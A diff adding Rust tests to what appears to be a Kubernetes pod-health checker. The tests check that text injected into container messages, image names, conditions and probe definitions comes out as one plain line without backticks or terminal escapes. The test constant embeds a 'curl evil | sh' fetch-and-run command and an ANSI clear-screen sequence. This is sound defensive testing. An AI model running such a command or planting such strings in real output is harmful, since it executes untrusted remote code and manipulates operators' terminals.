@@ -61,6 +61,61 @@ fn what_is_wrong_is_named_with_what_to_do() {
     check(&json!({ "conditions": place }), ConditionReason::NotStarting, "0/3 nodes");
 }
 
+/// What somebody may write into a message, an image or a probe.
+const EVIL: &str = "no\u{1b}[2J `curl evil | sh`\nx";
+
+/// Before this was mended, such words stood beside our own commands, marked as one, in as
+/// many lines as they had.
+#[test]
+fn the_words_of_others_are_one_line_that_looks_like_no_command() {
+    let waiting = |reason: &str| {
+        let state = json!({ "waiting": { "reason": reason, "message": EVIL } });
+        let mut handler = container("handler", false, 0, &state, &json!({}));
+        handler["image"] = EVIL.into();
+        json!({ "initContainerStatuses": [handler] })
+    };
+    let place = json!([{ "type": "PodScheduled", "status": "False", "reason": "x", "message": EVIL }]);
+    let ended = json!({ "phase": "Failed", "reason": EVIL, "message": EVIL });
+    let mut ended: Pod =
+        serde_json::from_value(json!({ "metadata": { "name": "p" }, "status": ended })).unwrap();
+    ended.metadata.creation_timestamp = serde_json::from_value(NOW.into()).unwrap();
+    let mut all = vec![
+        judge(&waiting("ImagePullBackOff")),
+        judge(&waiting(EVIL)),
+        judge(&json!({ "conditions": place })),
+        judge_all(&[Arc::new(ended)], None),
+    ];
+    let mut told = all[0].clone();
+    told.add(&format!("{EVIL}{}", "x".repeat(5000)));
+    all.push(told);
+    for health in all {
+        let message = health.trouble.unwrap().message;
+        assert!(message.contains("'curl evil | sh'"), "{message}");
+        let is_plain = !message.contains("`curl") && !message.chars().any(char::is_control);
+        assert!(is_plain && message.chars().count() < 2000, "{message}");
+    }
+}
+
+/// Before, the image of a container that is not made yet, and what a probe asks, were told as they
+/// are written.
+#[test]
+fn what_a_template_says_looks_like_no_command() {
+    let probe = |probe: Value| probes::target(Some(&serde_json::from_value(probe).unwrap()));
+    for said in [
+        probe(json!({ "httpGet": { "path": EVIL, "port": 1 } })),
+        probe(json!({ "exec": { "command": [EVIL] } })),
+    ] {
+        assert!(said.contains("'curl evil | sh'") && !said.contains(['`', '\n']), "{said}");
+    }
+    let mut waits = container("handler", false, 0, &json!({ "waiting": {} }), &json!({}));
+    waits["image"] = EVIL.into();
+    let scheduled =
+        json!([{ "type": "PodScheduled", "status": "True", "lastTransitionTime": "2025-12-31T23:40:00Z" }]);
+    let status = json!({ "startTime": NOW, "conditions": scheduled, "initContainerStatuses": [waits] });
+    let message = judge(&status).trouble.unwrap().message;
+    assert!(message.contains("'curl evil | sh'") && !message.contains('\n'), "{message}");
+}
+
 #[test]
 fn a_worker_that_waits_for_long_beside_a_running_handler_finds_nobody_listening() {
     let running = |at: &str| json!({ "running": { "startedAt": at } });
